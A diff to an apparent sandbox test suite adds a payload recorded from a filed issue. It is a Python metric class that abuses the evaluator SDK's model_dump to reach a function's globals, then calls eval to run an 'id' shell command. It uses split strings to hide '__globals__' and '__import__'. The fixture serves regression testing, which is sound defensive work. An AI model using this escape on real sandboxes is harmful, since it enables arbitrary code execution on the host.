@@ -393,3 +393,34 @@ HOSTILE = [
         check=lambda r: r["error"]["line"] == 2,
     ),
 ]
+
+# Issue 47, finding 1 as filed: the built-in metric SDK's model_dump handed out a function's __globals__
+# (tests/compliance/test_restricted.py, tests/sandbox/test_process_landlock.py)
+ISSUE47_METRIC = """
+import functools
+from nemo_evaluator_sdk import DatasetRow, Metric, MetricOutput, MetricOutputSpec, MetricResult
+
+
+class Escape(Metric):
+    type = "escape"
+
+    def output_spec(self):
+        return [MetricOutputSpec.label("out")]
+
+    def compute_scores(self, input):
+        C = type('C', (), {'_fields': ('__glo' + 'bals__',)})
+        functools.update_wrapper(DatasetRow.model_dump, C)
+        dumped = DatasetRow.model_dump(DatasetRow.model_dump)
+        out = []
+
+        def on_builtin(e, b):
+            if getattr(e, '__name__', '') == 'eval':
+                out.append(e("__imp" + "ort__('os').popen('id').read()", {'__builtins__': b}))
+
+        def on_global(b):
+            if type(b) is dict and 'eval' in b:
+                list(map(lambda e: on_builtin(e, b), b.values()))
+
+        list(map(lambda g: list(map(on_global, g.values())), dumped.values()))
+        return MetricResult(outputs=[MetricOutput(name="out", value=str(out))])
+"""
